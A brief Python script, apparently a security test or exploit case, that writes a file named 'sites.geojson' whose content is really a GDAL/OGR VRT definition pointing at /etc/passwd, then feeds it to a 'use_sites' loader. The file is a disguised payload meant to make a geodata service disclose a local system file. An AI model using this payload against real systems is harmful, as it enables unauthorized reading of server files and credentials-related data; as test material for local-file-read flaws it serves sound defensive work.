from recipes import *

put("sites.geojson", "<OGRVRTDataSource><OGRVRTLayer name=\"s\"><SrcDataSource>/etc/passwd</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>")
use_sites("sites.geojson")
